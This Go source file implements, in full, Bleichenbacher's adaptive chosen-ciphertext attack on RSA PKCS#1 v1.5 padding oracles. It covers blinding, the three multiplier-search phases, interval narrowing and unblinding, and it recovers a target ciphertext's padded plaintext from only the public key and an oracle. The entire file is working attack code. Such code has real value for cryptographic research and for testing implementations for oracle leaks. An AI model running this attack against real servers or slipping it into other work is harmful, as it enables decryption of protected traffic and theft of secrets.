package bleichenbacher

import (
	"context"
	"crypto/rand"
	"errors"
	"fmt"
	"math/big"
	"sync/atomic"
)

// ErrAttackFailed is the terminal failure of a single attack invocation:
// the search exhausted its iteration budget or the arithmetic broke down.
// It indicates a misconfigured bound, a non-conformant target ciphertext,
// or an incorrect oracle; retrying the same deterministic search against
// the same oracle would not help, so nothing is retried automatically.
var ErrAttackFailed = errors.New("bleichenbacher: attack failed")

// Step identifies the current phase of the Bleichenbacher state machine.
type Step int

const (
	// Step1 blinds the target ciphertext with a conformant multiplier s0.
	Step1 Step = iota + 1
	// Step2a searches for the first multiplier s1 starting at n/(3B).
	Step2a
	// Step2b searches linearly from the previous multiplier while more
	// than one candidate interval remains.
	Step2b
	// Step2c jumps the search window using the single remaining interval's
	// bounds. This is the efficiency core of the attack.
	Step2c
	// Step3 narrows the candidate intervals with the newest multiplier.
	Step3
	// Step4 unblinds the single remaining candidate into the plaintext.
	Step4
)

func (s Step) String() string {
	switch s {
	case Step1:
		return "Step1"
	case Step2a:
		return "Step2a"
	case Step2b:
		return "Step2b"
	case Step2c:
		return "Step2c"
	case Step3:
		return "Step3"
	case Step4:
		return "Step4"
	}
	return fmt.Sprintf("Step(%d)", int(s))
}

const (
	// DefaultMaxQueries caps the oracle queries spent in any single
	// multiplier search before the attack is declared failed.
	DefaultMaxQueries = 1 << 22

	// DefaultMaxRounds caps the number of narrowing rounds.
	DefaultMaxRounds = 1 << 14
)

// Attacker drives the adaptive chosen-ciphertext attack of Bleichenbacher
// (CRYPTO '98) against a PKCS#1 v1.5 padding oracle. Given the public key
// and the oracle alone it recovers the full padded plaintext of the
// target ciphertext.
type Attacker struct {
	c      *big.Int // target ciphertext
	c0     *big.Int // s0-blinded ciphertext, set by Step1
	pub    Key
	oracle Oracle
	b      *big.Int // B = 2^(8(k-2))

	multipliers []*big.Int // s_i history; multipliers[0] = s0
	intervals   *IntervalSet
	round       int
	step        Step

	searcher   Searcher
	maxQueries uint64
	maxRounds  int

	queries atomic.Uint64
}

// New constructs an attacker for the given target ciphertext. The bound
// B is derived from the public key here; searching starts on Run.
func New(c *big.Int, pub Key, oracle Oracle) *Attacker {
	if pub.Modulus == nil || pub.Modulus.Sign() <= 0 {
		panic("bleichenbacher: non-positive modulus")
	}
	if oracle == nil {
		panic("bleichenbacher: nil oracle")
	}
	k := pub.ByteLen()
	if k < 3 {
		panic(fmt.Sprintf("bleichenbacher: modulus of %d bytes is too short for PKCS#1", k))
	}

	return &Attacker{
		c:          new(big.Int).Set(c),
		pub:        pub,
		oracle:     oracle,
		b:          new(big.Int).Lsh(one, uint(8*(k-2))),
		intervals:  NewIntervalSet(),
		step:       Step1,
		searcher:   SequentialSearcher{},
		maxQueries: DefaultMaxQueries,
		maxRounds:  DefaultMaxRounds,
	}
}

// WithSearcher sets the strategy used for the linear multiplier searches
// of Step2a and Step2b.
func (a *Attacker) WithSearcher(s Searcher) *Attacker {
	a.searcher = s
	return a
}

// WithMaxQueries caps the oracle queries per search phase.
func (a *Attacker) WithMaxQueries(n uint64) *Attacker {
	a.maxQueries = n
	return a
}

// WithMaxRounds caps the number of narrowing rounds.
func (a *Attacker) WithMaxRounds(n int) *Attacker {
	a.maxRounds = n
	return a
}

// Queries returns the number of oracle queries issued so far.
func (a *Attacker) Queries() uint64 {
	return a.queries.Load()
}

// Rounds returns the number of completed narrowing rounds.
func (a *Attacker) Rounds() int {
	return a.round
}

// Intervals returns the current candidate intervals, ascending.
func (a *Attacker) Intervals() []Interval {
	return a.intervals.Intervals()
}

// Run drives the state machine until the candidate set collapses to a
// single integer and returns the recovered plaintext, still in its
// PKCS#1-padded form (see Unpad). The context is checked between oracle
// queries; transitions replace state wholesale, so cancellation needs no
// rollback.
func (a *Attacker) Run(ctx context.Context) (*big.Int, error) {
	for {
		if err := ctx.Err(); err != nil {
			return nil, err
		}

		var err error
		switch a.step {
		case Step1:
			err = a.step1(ctx)
		case Step2a:
			err = a.step2a(ctx)
		case Step2b:
			err = a.step2b(ctx)
		case Step2c:
			err = a.step2c(ctx)
		case Step3:
			err = a.step3()
		case Step4:
			return a.step4()
		default:
			panic(fmt.Sprintf("bleichenbacher: invalid state %v", a.step))
		}
		if err != nil {
			return nil, err
		}

		if a.round > a.maxRounds {
			return nil, fmt.Errorf("no convergence after %d rounds: %w", a.maxRounds, ErrAttackFailed)
		}
	}
}

// query submits one ciphertext to the oracle, counting the call. It is
// safe for concurrent use as long as the oracle itself is.
func (a *Attacker) query(c *big.Int) bool {
	a.queries.Add(1)
	return a.oracle(c)
}

// blind maps a multiplier candidate s to the ciphertext c0 * s^e mod n.
func (a *Attacker) blind(s *big.Int) *big.Int {
	c := new(big.Int).Exp(s, a.pub.Exponent, a.pub.Modulus)
	c.Mul(c, a.c0)
	return c.Mod(c, a.pub.Modulus)
}

func (a *Attacker) lastMultiplier() *big.Int {
	return a.multipliers[len(a.multipliers)-1]
}

// step1 finds a blinding multiplier s0 such that c * s0^e mod n is
// conformant. s0 = 1 is tried first: an already-conformant target flows
// through the rest of the machine unspecialized. Afterwards s0 is drawn
// uniformly from [1, n).
func (a *Attacker) step1(ctx context.Context) error {
	s0 := big.NewInt(1)
	for tried := uint64(0); ; tried++ {
		if err := ctx.Err(); err != nil {
			return err
		}
		if tried >= a.maxQueries {
			return fmt.Errorf("step 1: no conformant blinding within %d attempts: %w", a.maxQueries, ErrAttackFailed)
		}

		c0 := new(big.Int).Exp(s0, a.pub.Exponent, a.pub.Modulus)
		c0.Mul(c0, a.c)
		c0.Mod(c0, a.pub.Modulus)
		if a.query(c0) {
			a.c0 = c0
			break
		}

		r, err := rand.Int(rand.Reader, new(big.Int).Sub(a.pub.Modulus, one))
		if err != nil {
			return fmt.Errorf("step 1: %w", err)
		}
		s0 = r.Add(r, one)
	}

	twoB := new(big.Int).Lsh(a.b, 1)
	threeBminus1 := new(big.Int).Mul(three, a.b)
	threeBminus1.Sub(threeBminus1, one)

	a.multipliers = []*big.Int{s0}
	a.intervals = NewIntervalSet()
	a.intervals.Insert(NewInterval(twoB, threeBminus1))
	a.round = 1
	a.step = Step2a
	return nil
}

// step2a finds the first narrowing multiplier s1, scanning upward from
// n/(3B), the smallest s that can push a conformant plaintext past 2B.
func (a *Attacker) step2a(ctx context.Context) error {
	start := ceilDiv(a.pub.Modulus, new(big.Int).Mul(three, a.b))
	s, err := a.searcher.Search(ctx, a.query, a.blind, start, a.maxQueries)
	if err != nil {
		return fmt.Errorf("step 2a: %w", err)
	}
	a.multipliers = append(a.multipliers, s)
	a.step = Step3
	return nil
}

// step2b finds the next multiplier by plain increment from the previous
// one. It applies while several candidate intervals are still alive and
// the bound-driven jump of step2c is unavailable.
func (a *Attacker) step2b(ctx context.Context) error {
	start := new(big.Int).Add(a.lastMultiplier(), one)
	s, err := a.searcher.Search(ctx, a.query, a.blind, start, a.maxQueries)
	if err != nil {
		return fmt.Errorf("step 2b: %w", err)
	}
	a.multipliers = append(a.multipliers, s)
	a.step = Step3
	return nil
}

// step2c exploits the single remaining interval [lo, hi]: for each wrap
// count r >= 2(hi*s - 2B)/n only s in [(2B+rn)/hi, (3B+rn)/lo] can keep
// the plaintext conformant, so the scan jumps straight between those
// windows. Each round here roughly halves the interval.
func (a *Attacker) step2c(ctx context.Context) error {
	ivs := a.intervals.Intervals()
	if len(ivs) != 1 {
		panic(fmt.Sprintf("bleichenbacher: step 2c with %d intervals", len(ivs)))
	}
	lo, hi := ivs[0].Start, ivs[0].End
	n := a.pub.Modulus
	twoB := new(big.Int).Lsh(a.b, 1)
	threeB := new(big.Int).Mul(three, a.b)

	// r = ceil(2*(hi*s - 2B) / n)
	r := new(big.Int).Mul(hi, a.lastMultiplier())
	r.Sub(r, twoB)
	r.Lsh(r, 1)
	r = ceilDiv(r, n)

	rn := new(big.Int).Mul(r, n)
	s := ceilDiv(new(big.Int).Add(twoB, rn), hi)
	upper := new(big.Int).Div(new(big.Int).Add(threeB, rn), lo)

	for tried := uint64(0); tried < a.maxQueries; tried++ {
		if err := ctx.Err(); err != nil {
			return err
		}
		if a.query(a.blind(s)) {
			a.multipliers = append(a.multipliers, s)
			a.step = Step3
			return nil
		}

		s = new(big.Int).Add(s, one)
		if s.Cmp(upper) > 0 {
			r.Add(r, one)
			rn.Mul(r, n)
			s = ceilDiv(new(big.Int).Add(twoB, rn), hi)
			upper.Div(new(big.Int).Add(threeB, rn), lo)
		}
	}
	return fmt.Errorf("step 2c: no conformant multiplier within %d queries: %w", a.maxQueries, ErrAttackFailed)
}

// step3 rebuilds the candidate set using the newest multiplier s: for
// every surviving interval [lo, hi] and every feasible wrap count r, the
// plaintext must lie in [(2B+rn)/s, (3B-1+rn)/s] intersected with
// [lo, hi]. Empty intersections are dropped.
func (a *Attacker) step3() error {
	s := a.lastMultiplier()
	n := a.pub.Modulus
	twoB := new(big.Int).Lsh(a.b, 1)
	threeB := new(big.Int).Mul(three, a.b)
	threeBminus1 := new(big.Int).Sub(threeB, one)

	next := NewIntervalSet()
	for _, iv := range a.intervals.Intervals() {
		// r ranges over [ (lo*s - 3B + 1)/n , (hi*s - 2B)/n ]
		r := new(big.Int).Mul(iv.Start, s)
		r.Sub(r, threeB)
		r.Add(r, one)
		r = ceilDiv(r, n)

		rMax := new(big.Int).Mul(iv.End, s)
		rMax.Sub(rMax, twoB)
		rMax.Div(rMax, n)

		for ; r.Cmp(rMax) <= 0; r.Add(r, one) {
			rn := new(big.Int).Mul(r, n)

			lo := ceilDiv(new(big.Int).Add(twoB, rn), s)
			if lo.Cmp(iv.Start) < 0 {
				lo = iv.Start
			}
			hi := new(big.Int).Div(new(big.Int).Add(threeBminus1, rn), s)
			if hi.Cmp(iv.End) > 0 {
				hi = iv.End
			}
			if lo.Cmp(hi) > 0 {
				continue
			}
			next.Insert(NewInterval(lo, hi))
		}
	}

	if next.Len() == 0 {
		return fmt.Errorf("step 3: candidate set collapsed to nothing: %w", ErrAttackFailed)
	}
	a.intervals = next
	a.round++

	ivs := next.Intervals()
	switch {
	case len(ivs) > 1:
		a.step = Step2b
	case ivs[0].IsPoint():
		a.step = Step4
	default:
		a.step = Step2c
	}
	return nil
}

// step4 unblinds the single surviving candidate: m = a * s0^-1 mod n.
func (a *Attacker) step4() (*big.Int, error) {
	iv := a.intervals.Intervals()[0]
	s0inv := new(big.Int).ModInverse(a.multipliers[0], a.pub.Modulus)
	if s0inv == nil {
		return nil, fmt.Errorf("step 4: s0 is not invertible modulo n: %w", ErrAttackFailed)
	}
	m := s0inv.Mul(s0inv, iv.Start)
	return m.Mod(m, a.pub.Modulus), nil
}

// ceilDiv returns ceil(x/y) for y > 0. math/big's Euclidean division
// already floors for positive divisors, so only the remainder check is
// needed.
func ceilDiv(x, y *big.Int) *big.Int {
	q, m := new(big.Int).DivMod(x, y, new(big.Int))
	if m.Sign() != 0 {
		q.Add(q, one)
	}
	return q
}
